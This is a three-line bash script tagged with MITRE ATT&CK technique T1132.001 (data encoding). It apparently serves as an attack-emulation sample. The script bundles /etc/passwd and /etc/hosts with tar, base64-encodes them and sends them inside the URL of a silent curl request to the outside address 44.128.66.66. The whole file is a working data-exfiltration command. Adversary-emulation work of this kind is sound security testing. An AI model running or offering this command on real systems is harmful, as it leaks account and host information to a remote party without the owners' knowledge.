#!/bin/bash
# T1132.001: What was found is put into the address of a request.
curl -s "http://44.128.66.66/p?d=$(tar c /etc/passwd /etc/hosts 2>/dev/null | base64 -w0 | head -c 3000)"
